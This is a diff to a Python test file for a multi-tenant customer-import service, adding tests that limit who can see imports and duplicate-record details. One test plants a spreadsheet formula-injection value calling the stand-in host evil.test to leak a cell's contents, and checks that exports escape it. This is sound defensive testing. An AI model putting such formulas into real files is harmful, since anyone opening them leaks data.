@@ -17,7 +17,7 @@ import msgspec
 import openpyxl
 import pytest
 
-from server.access import Role
+from server.access import Role, Scope
 from server.customers import queries, service
 from server.customers.exports import service as exports
 from server.customers.exports.sheets import Words
@@ -204,7 +204,7 @@ async def test_rows_that_claim_one_number_are_rows_of_their_own(tenant: Tenant) 
     done = await bring_in(tenant, forged(rows, 3, b"2"))
 
     assert (done.counts.created, done.counts.skipped) == (2, 0)
-    assert await names(tenant.owner) == ["黄酒坊", "龙井茶行"]
+    assert set(await names(tenant.owner)) == {"龙井茶行", "黄酒坊"}
 
 
 @pytest.mark.parametrize("claimed", [b"0", b"1", b"9" * 40, b"1048577"])
@@ -285,6 +285,64 @@ async def test_an_import_is_of_its_company_and_of_those_who_may(
         await imports.upload(tenant.rep, "客户.csv", sheet("龙井茶行,,,"), now=NOW)
     assert [each.id for each in (await imports_queries.list_page(tenant.owner)).items] == [view.id]
     assert (await imports_queries.list_page(rival.owner)).items == []
+
+
+async def test_below_the_company_a_person_sees_their_own_imports_alone(tenant: Tenant) -> None:
+    theirs = await hand_in(tenant, sheet("龙井茶行,13805710001,,", "坏行,123,,"))
+    manager = msgspec.structs.replace(tenant.manager, scope=Scope.MINE)
+    own = await imports.upload(manager, "a.csv", sheet("黄酒坊,,,"), now=NOW)
+
+    for person in (manager, tenant.manager):
+        for question in (
+            imports_queries.one(person, theirs.id),
+            imports_queries.preview(person, theirs.id, StartImport()),
+            imports.start(person, theirs.id, StartImport(), now=NOW),
+            imports_queries.problems(person, theirs.id),
+            imports_queries.error_file(person, theirs.id),
+        ):
+            with pytest.raises(NotFound):
+                await question
+        listed = await imports_queries.list_page(person)
+        assert [each.id for each in listed.items] == [own.id]
+        with pytest.raises(IdReused):
+            await imports.upload(
+                person,
+                "客户.csv",
+                sheet("龙井茶行,13805710001,,", "坏行,123,,"),
+                import_id=theirs.id,
+                now=NOW,
+            )
+    assert (await imports_queries.one(tenant.owner, theirs.id)).state == "uploaded"
+    assert {each.id for each in (await imports_queries.list_page(tenant.owner)).items} == {
+        theirs.id,
+        own.id,
+    }
+
+
+async def test_a_double_is_named_to_those_alone_who_see_it(tenant: Tenant) -> None:
+    stranger = tenant.actor(Role.SALES_REP, team_id=new_id())
+    await make(stranger, '=HYPERLINK("http://evil.test/?"&A2)', phone="13805710001")
+    view = await imports.upload(tenant.manager, "a.csv", sheet("茶行,13805710001,,"), now=NOW)
+    preview = await imports_queries.preview(tenant.owner, view.id, StartImport())
+    await imports.start(tenant.owner, view.id, StartImport(), now=NOW)
+    await imports.run(tenant.owner, view.id, now=NOW)
+
+    seen = await imports_queries.problems(tenant.owner, view.id)
+    unseen = await imports_queries.problems(tenant.manager, view.id)
+    files = [
+        await imports_queries.error_file(person, view.id)
+        for person in (tenant.owner, tenant.manager)
+    ]
+
+    assert "HYPERLINK" in preview.problems[0].detail
+    assert "HYPERLINK" in seen.items[0].detail
+    assert [each.code for each in unseen.items] == ["duplicate_in_tenant"]
+    assert "HYPERLINK" not in unseen.items[0].detail
+    reasons = [
+        list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))[1][-1] for file in files
+    ]
+    assert reasons[0].startswith("'=HYPERLINK")
+    assert "HYPERLINK" not in reasons[1]
 
 
 async def test_a_file_that_cannot_be_read_leaves_nothing(tenant: Tenant) -> None:
